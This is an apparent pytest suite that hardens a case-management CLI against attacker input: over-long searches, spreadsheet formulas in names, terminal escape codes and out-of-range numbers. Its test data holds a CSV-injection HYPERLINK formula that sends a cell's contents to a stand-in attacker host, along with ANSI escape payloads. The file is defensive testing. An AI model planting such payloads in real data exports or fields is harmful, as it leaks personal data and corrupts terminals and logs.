"""Findings 6, 8 and 9: input an attacker types, through the real CLI and the services.

A 49,999-character search is "too long", never "the vault is damaged"; names built as
spreadsheet formulas are neutralised in CSV; ESC and BEL in a name are refused naming the
character (so nothing rewrites a terminal or a log line); absent values print empty, never
``None``; numbers too large for SQLite, or for the disk, are refused at once.
"""

from __future__ import annotations

import csv
import io
import time
from datetime import date
from pathlib import Path

import pytest
from cli_harness import CliVault, assert_clean_failure, make_env, message, run_cli
from support.participant_samples import TODAY, sample

from kdrt_desk.domain.enums import ConsentScope
from kdrt_desk.domain.participant import CaseBackground, Consent, ParticipantInput
from kdrt_desk.errors import ValidationError
from kdrt_desk.wiring import Services

FORMULAS = ('=HYPERLINK("http://evil.example/?"&D2,"klik")', "+Siti Plus", "-Siti Minus",
            "@Siti Pakai SUM(A1)")


# -- 6: a long search ---------------------------------------------------------------------------
def test_a_search_of_49999_characters_is_too_long_not_damage(demo: CliVault) -> None:
    result = demo.run("participants", "list", "--search", "a" * 49_999)
    assert result.returncode == 2
    line = assert_clean_failure(result, message("error.search_too_long", limit=200))
    assert message("error.database_damaged") not in line
    assert result.stdout == ""
    healthy = demo.run("participants", "list", "--search", "sari", "--format", "json")
    assert healthy.returncode == 0, healthy.stderr


# -- 8: formulas, control characters, None -------------------------------------------------------
def test_formula_names_are_neutralised_in_csv(demo_copy: CliVault) -> None:
    today = date.today()
    services = demo_copy.services("admin")
    try:
        codes = {services.participants.register(ParticipantInput(
            full_name=name, estimated_age=30, kecamatan="Plaju", registered_on=today,
            consent=Consent(today, {ConsentScope.DATA_USE})), today).code: name
            for name in FORMULAS}
    finally:
        services.close()

    result = demo_copy.run("participants", "list", "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = {row["code"]: row for row in csv.DictReader(io.StringIO(result.stdout))}
    for code, name in codes.items():
        assert rows[code]["full_name"] == "'" + name  # text to a spreadsheet, not a formula
        assert rows[code]["risk_level"] == ""  # not screened yet: empty, not "None"
    assert "None" not in result.stdout
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                       for cell in row.values()), row


@pytest.mark.parametrize(("field", "value", "character"), [
    ("full_name", "Siti \x1b[2J\x1b[31mAminah", "U+001B (ESC)"),
    ("preferred_name", "Ami\x07", "U+0007 (BEL)"),
    ("trusted_contact_name", "Ibu\x1b]0;judul\x07 Rina", "U+001B (ESC)"),
])
def test_control_characters_in_a_name_are_refused(admin: Services, field: str, value: str,
                                                  character: str) -> None:
    with pytest.raises(ValidationError) as refused:
        admin.participants.register(sample(**{field: value}), TODAY)
    found = {e.field: (e.key, e.params) for e in refused.value.errors}
    assert found.get(field) == ("error.control_character", {"character": character}), found
    assert admin.participants.count() == 0


def test_control_characters_in_case_notes_are_refused(admin: Services) -> None:
    case = CaseBackground(safety_notes="Baris satu\nBaris dua \x1b[8m tersembunyi")
    with pytest.raises(ValidationError) as refused:
        admin.participants.register(sample(case=case), TODAY)
    keys = {(e.field, e.key) for e in refused.value.errors}
    assert ("safety_notes", "error.control_character") in keys, keys


def test_control_character_in_a_display_name_is_refused(demo_copy: CliVault) -> None:
    env = demo_copy.env(KDRT_NEW_PASSWORD="kata sandi yang cukup panjang")
    result = demo_copy.run("users", "add", "--new-user", "rina", "--role", "staf",
                           "--name", "Rina\x07\x1b[2J", env=env)
    assert result.returncode == 2
    line = assert_clean_failure(result, message("error.control_character",
                                                character="U+0007 (BEL)"))
    assert "\x07" not in line and "\x1b" not in result.stderr + result.stdout
    services = demo_copy.services("admin")
    try:
        assert "rina" not in {a.username for a in services.accounts.list_accounts()}
    finally:
        services.close()


# -- 9: huge numbers -------------------------------------------------------------------------
def test_a_huge_session_number_is_one_line(demo: CliVault, tmp_path: Path) -> None:
    huge = "999999999999999999999"
    result = demo.run("attendance", "sheet", "--session", huge, "--out",
                      str(tmp_path / "daftar.pdf"))
    assert result.returncode == 2
    assert_clean_failure(result, message("cli.programme.session_invalid", value=huge))
    assert not (tmp_path / "daftar.pdf").exists()


def test_a_huge_demo_is_refused_at_once(tmp_path: Path) -> None:
    env = make_env(tmp_path / "keyring.json", tmp_path)
    start = time.monotonic()
    result = run_cli("demo", "--data-dir", str(tmp_path / "demo"), "--participants",
                     "99999999999999999999", env=env, timeout=20)
    assert time.monotonic() - start < 20
    assert result.returncode == 2
    assert_clean_failure(result, message("cli.number_out_of_range", option="--participants",
                                         low=0, high=200_000))
    assert not (tmp_path / "demo").exists()
